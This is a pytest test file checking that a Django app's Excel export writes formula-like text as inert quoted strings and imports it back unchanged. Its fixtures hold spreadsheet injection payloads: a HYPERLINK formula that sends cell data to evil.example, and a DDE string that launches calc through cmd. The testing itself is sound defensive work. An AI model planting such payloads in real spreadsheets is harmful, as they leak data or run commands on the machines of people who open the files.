"""Formula injection: text that looks like a formula is exported as text that no spreadsheet
runs, and the same text imports back unchanged (issue 10)."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from shuren.places.excel.actions import import_places
from shuren.places.excel.exporter import export_workbook
from shuren.places.excel.template import write_template, write_workbook
from shuren.places.models import Place
from shuren.places.tests.test_excel_import import new_estate, run

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"点这里")'
DDE = "=cmd|' /C calc'!A0"
# Every start a spreadsheet may read as a formula, a DDE call or a non-text value.
HOSTILE = [HYPERLINK, DDE, "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "#N/A"]


def sheet_xml(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        }


def cells_holding(content: bytes, values: list[str]) -> dict[str, object]:
    """The cells (openpyxl's full reader) whose value is one of values, by value. XML reads a
    carriage return back as a line feed, so "\r=1+1" is found as "\n=1+1"."""
    wanted = {value.replace("\r", "\n"): value for value in values}
    wb = load_workbook(io.BytesIO(content))
    return {
        wanted[c.value]: c
        for ws in wb.worksheets
        for r in ws.iter_rows()
        for c in r
        if c.value in wanted
    }


def assert_written_as_text(content: bytes, values: list[str]) -> None:
    for name, xml in sheet_xml(content).items():
        assert not re.search(r"<f[ >]", xml), f"{name} holds a formula"
    found = cells_holding(content, values)
    assert set(found) == set(values)
    for value, cell in found.items():
        assert cell.data_type == "s", value  # an inline string, not a formula or an error
        assert cell.quotePrefix, value  # editing the cell in Excel keeps it text


def test_every_risky_text_in_an_export_is_written_as_text(world):
    scoped = Place.objects.filter(code__startswith="GC-JD").order_by("code")
    for place, name in zip(scoped, HOSTILE, strict=False):
        Place.objects.filter(pk=place.pk).update(name=name)
    Place.objects.filter(code="GC-JD-JYLW").update(address=DDE)

    content = export_workbook(user=world.user("demo-shequ"))

    assert_written_as_text(content, HOSTILE)
    # The raw XML carries the text, escaped, inside <is><t>, the way a spreadsheet shows it.
    xml = "".join(sheet_xml(content).values())
    assert re.search(r'<c r="C\d+" [^>]*t="inlineStr"><is><t>=cmd\|\' /C calc\'!A0</t>', xml)


def test_a_formula_like_name_imported_and_exported_comes_back_the_same(world):
    rows = new_estate()
    rows["places"][2]["name"] = DDE
    rows["residents"][0]["name"] = HYPERLINK[:50]
    assert run(world, "demo-shequ", rows).ok
    user = world.user("demo-shequ")

    content = export_workbook(user=user)
    assert_written_as_text(content, [DDE, HYPERLINK[:50]])
    report = import_places(actor=user, file=content)

    assert report.ok, report.lines()
    assert report.places.updated == report.persons.updated == 0
    assert world.place("XY").name == DDE
    assert world.person("P-XY-1").name == HYPERLINK[:50]


def test_the_filled_workbook_and_the_template_write_risky_text_as_text():
    content = write_workbook({"places": [{"code": "X", "name": value} for value in HOSTILE]})
    assert_written_as_text(content, HOSTILE)
    for xml in sheet_xml(write_template()).values():
        assert "<f>" not in xml


@pytest.mark.parametrize("value", ["plain", "王秀英", "1-2", "a=b", 12, 89.5, None])
def test_ordinary_values_are_written_as_before(value):
    content = write_workbook({"places": [{"code": "X", "name": value}]})
    cell = load_workbook(io.BytesIO(content))["区划"]["C2"]
    assert cell.value == value
    assert not cell.quotePrefix


def test_a_control_character_stored_before_the_input_rules_does_not_break_the_export(world):
    # Today's forms and imports refuse control characters (shuren.text); an older row may hold
    # one, which no xlsx can carry: it is dropped, and the export still comes out.
    Place.objects.filter(code="GC-JD-JYLW").update(name="金域\x01蓝湾")
    content = export_workbook(user=world.user("demo-shequ"))
    names = [row[2].value for row in load_workbook(io.BytesIO(content))["区划"].iter_rows()]
    assert "金域蓝湾" in names
